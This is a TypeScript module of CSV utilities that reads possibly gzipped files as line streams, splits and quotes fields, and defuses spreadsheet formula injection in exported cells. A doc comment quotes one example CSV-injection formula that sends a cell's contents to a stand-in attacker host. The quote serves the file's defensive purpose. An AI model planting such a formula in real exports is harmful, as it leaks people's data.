/**
 * Low-level CSV helpers: opening a (possibly gzip) file as a line stream, splitting a
 * line into fields, and quoting fields on the way out. Kept free of any layout logic.
 */
import { createReadStream } from 'node:fs';
import { open, stat } from 'node:fs/promises';
import { createInterface, type Interface } from 'node:readline';
import { createGunzip } from 'node:zlib';
import type { Readable } from 'node:stream';
import { DataError } from './errors.js';

/** True if the path ends in .gz or the file starts with the gzip magic bytes 1f 8b. */
export async function isGzipFile(path: string): Promise<boolean> {
  if (path.toLowerCase().endsWith('.gz')) return true;
  const fh = await open(path, 'r');
  try {
    const buf = Buffer.alloc(2);
    const { bytesRead } = await fh.read(buf, 0, 2, 0);
    return bytesRead === 2 && buf[0] === 0x1f && buf[1] === 0x8b;
  } finally {
    await fh.close();
  }
}

export interface LineStream {
  lines: Interface;
  /** Compressed bytes read from disk so far (what a progress bar should track). */
  bytesRead(): number;
  totalBytes: number;
  /** Resolves when the readline interface closes; rejects on a stream error. */
  done: Promise<void>;
  destroy(): void;
}

/**
 * Size of a regular file, or a DataError that says plainly what is wrong with the path
 * ("<path>: no such file") instead of a raw `ENOENT: …, stat '<path>'`.
 */
async function fileSize(path: string): Promise<number> {
  let info;
  try {
    info = await stat(path);
  } catch (e) {
    const code = (e as NodeJS.ErrnoException).code;
    const why =
      code === 'ENOENT'
        ? 'no such file'
        : code === 'EACCES' || code === 'EPERM'
          ? 'permission denied'
          : code === 'ENOTDIR'
            ? 'no such file (a parent is not a directory)'
            : (e as Error).message;
    throw new DataError(`${path}: ${why}`, path);
  }
  if (info.isDirectory()) throw new DataError(`${path}: is a directory, not a CSV file`, path);
  return info.size;
}

/**
 * Opens `path` as a stream of lines (node:readline handles \n and \r\n). Gzip input is
 * decompressed on the fly, so memory stays bounded whatever the file size.
 */
export async function openLines(path: string): Promise<LineStream> {
  const size = await fileSize(path);
  const gz = await isGzipFile(path).catch((e: NodeJS.ErrnoException) => {
    throw e.code === 'EACCES' || e.code === 'EPERM' ? new DataError(`${path}: permission denied`, path) : e;
  });
  const file = createReadStream(path, { highWaterMark: 1 << 20 });
  let input: Readable = file;
  if (gz) input = file.pipe(createGunzip());
  let fail: (e: Error) => void = () => {};
  const failed = new Promise<never>((_, reject) => (fail = reject));
  failed.catch(() => {}); // observed through `done`
  // Listen before readline does: readline re-emits input errors on the interface, and an
  // 'error' emitted without a listener would be thrown instead of rejecting `done`.
  file.on('error', (e: NodeJS.ErrnoException) =>
    fail(e.code === 'EACCES' ? new DataError(`${path}: permission denied`, path) : e),
  );
  if (input !== file) input.on('error', (e) => fail(new DataError(`${path}: cannot decompress: ${e.message}`, path)));
  const lines = createInterface({ input, crlfDelay: Infinity });
  lines.on('error', (e) => fail(e));
  const done = Promise.race([failed, new Promise<void>((resolve) => lines.on('close', resolve))]);
  return {
    lines,
    bytesRead: () => file.bytesRead,
    totalBytes: size,
    done,
    destroy: () => {
      lines.close();
      file.destroy();
      if (input !== file) input.destroy();
    },
  };
}

/**
 * Splits one CSV line into `out` (reused between calls to avoid allocation) and returns
 * the field count, or -1 if a quoted field is not closed (multi-line fields are not
 * supported: transaction exports do not use them). RFC 4180 quoting: "a ""b""" -> a "b".
 * `delimiter` is one character: ',' by default, ';' for files such as Berka's trans.asc.
 */
export function splitCsvLine(line: string, out: string[], delimiter = ','): number {
  if (line.indexOf('"') === -1) {
    // Fast path: most numeric lines have no quotes at all.
    let n = 0;
    let start = 0;
    for (;;) {
      const comma = line.indexOf(delimiter, start);
      if (comma === -1) {
        out[n++] = line.slice(start);
        return n;
      }
      out[n++] = line.slice(start, comma);
      start = comma + 1;
    }
  }
  let n = 0;
  let i = 0;
  const len = line.length;
  for (;;) {
    if (line.charCodeAt(i) === 34 /* " */) {
      let value = '';
      let j = i + 1;
      for (;;) {
        const q = line.indexOf('"', j);
        if (q === -1) return -1;
        value += line.slice(j, q);
        if (line.charCodeAt(q + 1) === 34) {
          value += '"';
          j = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      out[n++] = value;
      // Anything between the closing quote and the next comma is kept verbatim (lenient).
      const comma = line.indexOf(delimiter, i);
      if (comma === -1) {
        if (i < len) out[n - 1] += line.slice(i);
        return n;
      }
      if (comma > i) out[n - 1] += line.slice(i, comma);
      i = comma + 1;
    } else {
      const comma = line.indexOf(delimiter, i);
      if (comma === -1) {
        out[n++] = line.slice(i);
        return n;
      }
      out[n++] = line.slice(i, comma);
      i = comma + 1;
    }
  }
}

/** A cell a spreadsheet would take as a number: left as it is by `spreadsheetSafeField`. */
const NUMBER_CELL = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * `quoteCsvField` for a file people open in a spreadsheet (a safe copy, an account report): a
 * text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so
 * that Excel, LibreOffice and Google Sheets show it as text instead of running it as a formula
 * (CSV injection: `=HYPERLINK("http://evil.example/?"&A2, "details")` sends the row's neighbour
 * away when clicked). Numbers, negative ones too, are left alone. Source: OWASP, "CSV Injection".
 */
export function spreadsheetSafeField(value: string): string {
  const risky = /^[=+\-@\t\r]/.test(value) && !NUMBER_CELL.test(value);
  return quoteCsvField(risky ? `'${value}` : value);
}

/** Quotes a field only when it needs it (comma, quote, CR/LF or surrounding spaces). */
export function quoteCsvField(value: string): string {
  if (/[",\r\n]/.test(value) || value.trim() !== value) return `"${value.replace(/"/g, '""')}"`;
  return value;
}
